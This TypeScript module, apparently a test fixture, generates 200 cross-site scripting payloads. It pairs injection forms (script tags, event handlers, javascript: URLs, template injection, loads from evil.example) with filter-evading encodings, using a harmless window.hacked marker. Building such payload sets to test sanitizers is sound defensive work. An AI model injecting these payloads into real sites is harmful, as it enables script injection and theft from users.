/** Sets `hacked` on the page's window, if it is ever run. */
const PROGRAM = 'window.hacked=1'

/** Ways to run a program where a text is written as markup, as an attribute, as a script, a style or an address. */
const WAYS: readonly ((program: string) => string)[] = [
  (program) => `<script>${program}</script>`,
  (program) => `</script><script>${program}</script>`,
  (program) => `</title><script>${program}</script>`,
  (program) => `</textarea><script>${program}</script>`,
  (program) => `--><script>${program}</script><!--`,
  (program) => `]]><script>${program}</script>`,
  (program) => `<img src=x onerror="${program}">`,
  (program) => `"><img src=x onerror=${program}>`,
  (program) => `'><img src=x onerror=${program}>`,
  (program) => `" onmouseover="${program}" autofocus onfocus="${program}`,
  (program) => `<svg onload="${program}">`,
  (program) => `<svg><animate onbegin="${program}" attributeName=x>`,
  (program) => `<iframe src="javascript:parent.${program}">`,
  (program) => `<iframe srcdoc="<script>parent.${program}</script>">`,
  (program) => `<details open ontoggle="${program}">`,
  (program) => `<video><source onerror="${program}"></video>`,
  (program) => `<body onpageshow="${program}">`,
  (program) => `<math href="javascript:${program}">x</math>`,
  (program) => `<a href="javascript:${program}" autofocus onfocus="${program}">x</a>`,
  (program) => `<base href="//evil.example/"><script src="a.js"></script>`.concat(program),
  (program) => `<style>@import '//evil.example/a.css'</style>${program}`,
  (program) => `javascript:${program}`,
  (program) => `';${program};'`,
  (program) => `\${${program}}{{constructor.constructor('${program}')()}}`,
  (program) => `<template><script>${program}</script></template>`,
]

/** Ways to write the same so that a filter overlooks it. */
const DISGUISES: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase().replaceAll('WINDOW.HACKED', 'window.hacked'),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '%3C').replaceAll('>', '%3E'),
  (text) => text.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
  (text) => text.replaceAll('script', 'scr<script>ipt').slice(0, 190),
  (text) => text.replaceAll('<', '＜').replaceAll('>', '＞'),
  (text) => text.replaceAll('=', ' ='),
]

/** Texts that run a program where they are taken for more than text: 200, each like no other and short enough for a comment. */
export const SCRIPT_PAYLOADS: readonly string[] = DISGUISES.flatMap((disguise, which) =>
  WAYS.map((way, at) => `${which}.${at} ${disguise(way(PROGRAM))}`),
)
